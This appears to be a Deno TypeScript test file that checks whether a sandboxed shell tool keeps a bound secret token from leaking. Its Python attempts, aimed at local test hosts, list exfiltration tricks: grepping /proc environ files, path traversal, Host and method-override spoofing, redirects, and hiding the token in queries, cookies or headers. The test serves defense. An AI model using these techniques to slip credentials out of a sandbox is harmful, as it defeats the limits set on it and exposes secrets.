/** Y50 and up: secrets that commands use and must not learn (S33). */
import { namesHere } from "../../_support/names_here.ts";
import { type HeardRequest, HttpsEcho } from "../../_support/servers/https_echo.ts";
import { Workbench } from "../../_support/workbench.ts";
import { BOTH, python, type Row, type Way } from "../frame/attack.ts";
import { driven, together, withServer } from "../frame/stage.ts";

const BOUND = "bound.example.test";
const OTHER = "other.example.test";
const VALUE = "value-of-the-secret-0123456789";

/** Python: `ask` prints an answer, compressed or not; `T` is what the variable holds, `B` and `O` are addresses. */
const PRELUDE = `import base64, gzip, http.client, os, ssl, sys, urllib.error, urllib.request
T = os.environ["TOKEN"]
B, O = "https://${BOUND}:PORT", "https://${OTHER}:PORT"
CONTEXT = ssl.create_default_context()
urllib.request.install_opener(urllib.request.build_opener(urllib.request.HTTPSHandler(context=CONTEXT)))
def ask(url, method="GET", data=None, host=None, **headers):
  pairs = {name.replace("_", "-"): value for name, value in headers.items()}
  if host: pairs["Host"] = host
  request = urllib.request.Request(url, method=method, headers=pairs, data=data)
  try: answer = urllib.request.urlopen(request, timeout=20)
  except urllib.error.HTTPError as error: answer = error
  body = answer.read()
  if answer.headers.get("content-encoding") == "gzip": body = gzip.decompress(body)
  print(answer.status, answer.headers.items(), body.decode("latin1"))
`;

/** The value where no binding sends it. */
function goesElsewhere({ line, authorization }: HeardRequest): boolean {
  return !line.startsWith("GET /permitted/") && holdsValue(authorization);
}

/** The value in another place than a header of credentials. */
function isInTheOpen({ line, rest }: HeardRequest): boolean {
  return holdsValue(decodeURIComponent(line)) || holdsValue(rest);
}

/** The value in a request that a server takes for another one. */
function isMisread(request: HeardRequest): boolean {
  const { line, rest, authorization } = request;
  const asksForOther = /override|original|rewrite|forwarded-host|_method/i.test(line + rest);
  return goesElsewhere(request) || asksForOther && holdsValue(authorization);
}

function holdsValue(text: string | null): boolean {
  return FORMS.some((one) => text?.includes(one));
}

/** Python: attempts in turn; after each, a request that may carry the secret says in its address which it was. */
function inTurn(programs: readonly string[]): string {
  return `
marks = http.client.HTTPSConnection("${BOUND}", int(B.rsplit(":")[-1]), timeout=20, context=CONTEXT)
for at, program in enumerate(${JSON.stringify(programs)}):
  print(f"\\n${SECTION}{at}", flush=True)
  try: exec(program, dict(globals()))
  except BaseException as error: print(repr(error))
  marks.request("GET", f"/permitted/?${MARK}{at}", headers={"Authorization": "Bearer " + T})
  marks.getresponse().read()
print("\\n${SECTION}end")`;
}

const SECTION = "attempt ";
const MARK = "after-";

/** What one attempt printed, and the requests that came of it. @throws Error where the secret did not arrive after it. */
function partOf(at: number, text: string, heard: readonly HeardRequest[]): [string, readonly HeardRequest[]] {
  const next = text.indexOf(`\n${SECTION}`, text.indexOf(`${SECTION}${at}\n`) + 1);
  const isMark = (of: number) => ({ line }: HeardRequest) => line.endsWith(`?${MARK}${of}`);
  const mark = heard.findIndex(isMark(at));
  if (next < 0 || heard[mark]?.authorization !== `Bearer ${VALUE}`) throw new Error(`It did not arrive: ${text}`);
  return [
    text.slice(text.indexOf(`${SECTION}${at}\n`), next),
    heard.slice(heard.findIndex(isMark(at - 1)) + 1, mark),
  ];
}

/** Attempts, each with what tells a request that carried the value elsewhere. */
type Judged = readonly [attempts: Readonly<Record<string, string>>, judge: (request: HeardRequest) => boolean];

/** Attempts on one server: each must neither show the value nor make it arrive in a request that its judge tells. */
function secretly(...groups: readonly Judged[]): Way {
  const does = driven(async (scene) => {
    using place = new Workbench(scene.user);
    await using echo = await HttpsEcho.open(place, [BOUND, OTHER]);
    const { enforced } = scene;
    const allowed = [BOUND, OTHER].flatMap((host) => ["--allow-private-hosts", host]);
    const secret = ["--secret", `TOKEN=${BOUND}:${echo.port}:GET /permitted/*`];
    return await withServer(scene, {
      prefix: namesHere(place, `${BOUND} ${OTHER}`),
      permissions: ["--allow-net"],
      environment: { TOKEN: VALUE, SSL_CERT_FILE: echo.certificate },
      flags: () => enforced ? ["--network", `${OTHER}:${echo.port}`, ...allowed, ...secret] : ["--env", "TOKEN"],
    }, async (server, bench) => {
      const tried = groups.flatMap(([attempts, judge]) =>
        Object.entries(attempts).map(([name, program]) => ({ name, program, judge }))
      );
      const program = PRELUDE + inTurn(tried.map(({ program }) => program));
      // A result would leave out the middle.
      const command = `exec > told 2>&1\n${python(program.replaceAll("PORT", String(echo.port)))}`;
      const words = { command, execution_mode: "Synchronous", timeout_seconds: 240 };
      const answer = await server.call("sandboxed_shell", words, { deadline: 300_000 });
      const text = await Deno.readTextFile(`${bench.scope}/told`) + answer.text;
      const parts = Object.fromEntries(tried.map(({ name, judge }, at) => {
        return [name, found(partOf(at, text, echo.heard), judge)];
      }));
      return await together(scene, parts, (part) => Promise.resolve(part));
    });
  });
  return { does };
}

/** Whether the value was printed, or carried where the judge says it must not. */
function found([printed, requests]: ReturnType<typeof partOf>, judge: Judged[1]): string | undefined {
  const arrived = requests.find(judge);
  const shown = [printed, printed.replaceAll("*", "-"), printed.replaceAll("*", "0")];
  const isShown = FORMS.some((one) => shown.some((form) => form.includes(one)));
  return isShown ? "the answer holds the secret" : arrived && `"${arrived.line}" carried the secret`;
}

const FORMS = [VALUE, btoa(`me:${VALUE}`), btoa(VALUE)];

/** From what is around, and from answers. */
const LEARNT: Readonly<Record<string, string>> = {
  "the variable": "print(T)",
  "variables of all processes": `os.system("grep -ashoz '^TOKEN=.*' /proc/[0-9]*/environ | sort -zu")`,
  "a body that repeats it": 'ask(B + "/permitted/", Authorization="Bearer " + T)',
  "a body that repeats it in Basic form":
    'ask(B + "/permitted/", Authorization="Basic " + base64.b64encode(("me:" + T).encode()).decode())',
  "a compressed body": 'ask(B + "/packed/../permitted/../packed", Authorization="Bearer " + T)',
  "a part of a body":
    'ask(B + "/permitted/", Authorization="Bearer " + T, Range="bytes=0-400", Accept_Encoding="gzip")',
  "what hides it": 'ask(B + "/permitted/", X_Api_Key=T + " -", X_Key=T + " 0", Authorization=T)',
  "a later answer": 'ask(B + "/permitted/", Authorization="Bearer " + T); ask(B + "/before")',
  "several headers": 'ask(B + "/permitted/", Authorization=T, X_Api_Key=T, Private_Token=T + T)',
};

/** To other hosts, methods, paths and names. */
const SENT_ELSEWHERE: Readonly<Record<string, string>> = {
  "another listed host": 'ask(O + "/", Authorization="Bearer " + T)',
  "a redirect to it": `ask(B + "/moved?" + O + "/", Authorization="Bearer " + T)`,
  "another method": 'ask(B + "/permitted/", "POST", b"", Authorization="Bearer " + T)',
  "another path": 'ask(B + "/user", Authorization="Bearer " + T)',
  "up from a permitted path": 'ask(B + "/permitted/../user", Authorization="Bearer " + T)',
  "up, encoded": 'ask(B + "/permitted/%2e%2e/user", Authorization="Bearer " + T)',
  "another Host": `ask(B + "/user", host="${OTHER}", Authorization="Bearer " + T)`,
  "Basic credentials": 'ask(B + "/user", Authorization="Basic " + base64.b64encode(("me:" + T).encode()).decode())',
  "two requests on one connection": `peer = http.client.HTTPSConnection("${BOUND}", int(B.rsplit(":")[-1]))
for path in "/permitted/", "/user":
  peer.request("GET", path, headers={"Authorization": "Bearer " + T})
  print(peer.getresponse().read())`,
};

/** In parts of a permitted request, where its host would keep or show it. */
const KEPT_OR_SHOWN: Readonly<Record<string, string>> = {
  "the query": 'ask(B + "/permitted/?q=" + T)',
  "the path": 'ask(B + "/permitted/" + T)',
  "the query, encoded": 'ask(B + "/permitted/?q=" + "".join("%%%02x" % ord(one) for one in T))',
  "a body": 'ask(B + "/permitted/", "POST", T.encode())',
  "a form": 'ask(B + "/permitted/", "POST", ("a=" + T).encode(), Content_Type="application/x-www-form-urlencoded")',
  "a body in parts": `peer = http.client.HTTPSConnection("${BOUND}", int(B.rsplit(":")[-1]))
peer.request("POST", "/permitted/", iter([T[:9].encode(), T[9:].encode()]), encode_chunked=True, headers={"Transfer-Encoding": "chunked"})
print(peer.getresponse().read())`,
  "a cookie": 'ask(B + "/permitted/", Cookie="a=" + T)',
  "the program's name": 'ask(B + "/permitted/", User_Agent=T)',
  "where it comes from": 'ask(B + "/permitted/", Referer=B + "/" + T)',
  "a kept header": 'ask(B + "/permitted/", X_Amz_Meta_Token=T)',
  "the key of a payment": 'ask(B + "/permitted/", Idempotency_Key=T)',
  "the key of a cache": 'ask(B + "/permitted/", X_Cache_Key=T)',
  "a header of any name": 'ask(B + "/permitted/", X_Data=T)',
};

/** By methods, paths and hosts that a server reads differently. */
const MISREAD: Readonly<Record<string, string>> = {
  "TRACE": 'ask(B + "/permitted/", "TRACE", Authorization="Bearer " + T)',
  "a method in a header": 'ask(B + "/permitted/", Authorization="Bearer " + T, X_HTTP_Method_Override="DELETE")',
  "a method in the query": 'ask(B + "/permitted/?_method=delete", Authorization="Bearer " + T)',
  "a path in a header": 'ask(B + "/permitted/", Authorization="Bearer " + T, X_Original_URL="/user")',
  "another one": 'ask(B + "/permitted/", Authorization="Bearer " + T, X_Rewrite_URL="/user")',
  "a host in a header": `ask(B + "/permitted/", Authorization="Bearer " + T, X_Forwarded_Host="${OTHER}")`,
  "a path in full width": 'ask(B + "/permitted/%ef%bc%8e%ef%bc%8e/user?_method", Authorization="Bearer " + T)',
  "a path with a backslash": 'ask(B + "/permitted%5c../user", Authorization="Bearer " + T)',
  "a doubled slash": 'ask(B + "//permitted/x", Authorization="Bearer " + T)',
  "another case of the method": 'ask(B + "/user", "get", Authorization="Bearer " + T)',
  "in two halves": 'ask(B + "/user", Authorization=T[:9] + T[9:])',
};

export const SECRETS: readonly Row[] = [
  {
    id: "Y50",
    title: "learn a secret that requests carry, send it elsewhere, or have it kept, shown or misread",
    users: BOTH,
    aim: "evidence",
    ways: {
      "attempts in turn": secretly(
        [LEARNT, goesElsewhere],
        [SENT_ELSEWHERE, goesElsewhere],
        [KEPT_OR_SHOWN, isInTheOpen],
        [MISREAD, isMisread],
      ),
    },
  },
];
